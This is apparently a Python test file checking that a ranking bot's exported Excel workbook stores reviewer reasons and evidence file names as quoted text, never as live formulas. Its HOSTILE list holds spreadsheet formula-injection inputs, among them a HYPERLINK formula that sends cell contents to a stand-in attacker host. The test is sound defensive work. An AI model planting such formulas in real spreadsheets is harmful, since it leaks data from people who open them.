"""Text from people in the ranking workbook is written as text, never as a formula."""

from __future__ import annotations

import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from bot.cluster_files import load_cluster_year
from bot.config import BUNDLED_CLUSTER
from bot.domain.scoring import rank
from bot.i18n import translator
from bot.outputs.ranking_files import ranking_workbook
from bot.services.ranking_data import RankingData, final_scores
from storage.scores import Review, ScoreSheet

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


def test_reasons_and_evidence_names_that_look_like_formulas_stay_text() -> None:
    year = load_cluster_year(BUNDLED_CLUSTER)
    table = year.scoring
    assert table is not None
    now = datetime(2022, 12, 1, tzinfo=UTC)
    criterion = table.criteria()[0]
    sheets, reviews = {}, {}
    for i, unit in enumerate(year.cluster.units):
        evidence = [["0" * 64, HOSTILE[i % len(HOSTILE)] + ".pdf"]]
        entry = {"value": 1, "points": 1.0, "note": "", "evidence": evidence}
        sheets[unit.code] = ScoreSheet(unit.code, 1, 1, now, {"criteria": {criterion.code: entry}})
        reason = HOSTILE[i % len(HOSTILE)]
        reviews[(unit.code, criterion.code)] = Review(unit.code, criterion.code, 0.5, reason, now)
    data = RankingData(table, rank(table, final_scores(sheets, reviews)), sheets, reviews)
    book = load_workbook(io.BytesIO(ranking_workbook(year.cluster, data, translator("vi"))))
    seen = set()
    for unit in year.cluster.units:
        row = next(
            r for r in book[unit.code].iter_rows(min_row=2) if r[0].value.startswith(criterion.code)
        )
        reason, evidence = row[4], row[5]
        for cell in (reason, evidence):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.value, cell.data_type)
        assert reason.value == reviews[(unit.code, criterion.code)].reason  # kept as typed
        seen.add(reason.value)
    assert len(seen) == len(HOSTILE)
    plain = book[year.cluster.units[0].code]["A1"]
    assert plain.data_type == "s" and not plain.quotePrefix  # ordinary text is left alone
